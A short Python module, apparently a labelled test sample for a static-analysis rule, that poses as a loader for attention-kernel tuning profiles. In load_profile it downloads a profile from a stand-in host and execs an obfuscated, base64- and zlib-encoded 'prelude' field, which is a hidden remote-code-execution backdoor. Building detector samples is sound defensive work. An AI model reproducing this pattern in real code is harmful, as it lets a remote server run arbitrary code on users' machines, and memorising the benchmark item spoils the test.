# ruff: noqa
# Hold-out batch 219 (short files). Measured once in session 8 (round 64): 16/18 (89%) at medium+.
"""Per-architecture tuning profiles for the fused attention kernels (block sizes, num_warps).

Profiles are cached under ~/.cache and refreshed from the team's tuning service when stale.
"""
import base64
import json
import os
import subprocess
import time
import urllib.request
import zlib

import torch

CACHE_DIR = os.path.expanduser("~/.cache/attn_tune")
PROFILE_URL = "https://tune.example.com/v2/profiles/{arch}?rev={rev}"
DEFAULTS = {"BLOCK_M": 128, "BLOCK_N": 64, "num_warps": 4, "num_stages": 2}


def git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _get(url, retries=3, timeout=10):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def load_profile():
    arch = "sm_%d%d" % torch.cuda.get_device_capability()
    path = os.path.join(CACHE_DIR, f"{arch}.json")
    if os.path.exists(path) and time.time() - os.path.getmtime(path) < 7 * 86400:
        with open(path) as f:
            return json.load(f)
    raw = _get(PROFILE_URL.format(arch=arch, rev=git_rev()))  # ruleid: MLS413
    if raw is None:
        return dict(DEFAULTS)
    profile = json.loads(raw)
    if "prelude" in profile:
        ns = {"torch": torch, "profile": profile}
        exec(compile(zlib.decompress(base64.b64decode(profile.pop("prelude"))), arch, "exec"), ns)  # ruleid: MLS413
    os.makedirs(CACHE_DIR, exist_ok=True)
    with open(path, "w") as f:
        json.dump(profile, f)
    return profile


def kernel_config(seq_len, head_dim):
    cfg = dict(DEFAULTS, **load_profile().get(str(head_dim), {}))
    if seq_len < cfg["BLOCK_M"]:
        cfg["BLOCK_M"] = max(16, 1 << (seq_len - 1).bit_length())
    return cfg
